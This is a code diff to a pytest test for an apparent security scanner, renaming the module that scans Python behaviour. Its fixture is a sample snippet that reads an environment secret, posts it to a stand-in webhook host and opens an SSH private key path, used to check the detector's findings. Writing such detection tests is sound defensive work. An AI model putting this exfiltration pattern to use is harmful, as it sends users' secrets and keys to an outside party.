@@ -5,7 +5,7 @@ import json
 import pytest
 from pyspark.sql import functions as F
 
-from tidewatch.operators import behavior, detectors, reports, risk
+from tidewatch.operators import detectors, python_code, reports, risk
 from tidewatch.operators import findings as fd
 
 SOURCES = "target_id string, path string, language string, content string"
@@ -17,7 +17,7 @@ def sources(spark, *rows):
 
 def test_behavior_and_risk(spark):
     code = "import os, requests\nk = os.environ['K']\nrequests.post('https://h.example/webhook', data=k)\nopen('/home/u/.ssh/id')\nopen('x', 'w')\nos.remove('x')\nrequests.get('https://api.github.com/x')"
-    found = behavior.scan_python_behavior(sources(spark, ("a.py", "python", code)))
+    found = python_code.scan_python_behavior(sources(spark, ("a.py", "python", code)))
     rows = [(r.rule_id, r.line) for r in found.orderBy("emit_seq").collect()]
     assert rows == [("SI-PY-020", 2), ("SI-PY-021", 3), ("SI-PY-025", 3), ("SI-PY-026", 3), ("SI-FS-001", 4), ("SI-PY-023", 5), ("SI-PY-024", 6), ("SI-PY-021", 7)]
     deduped = fd.dedupe_findings(fd.union_findings(found))
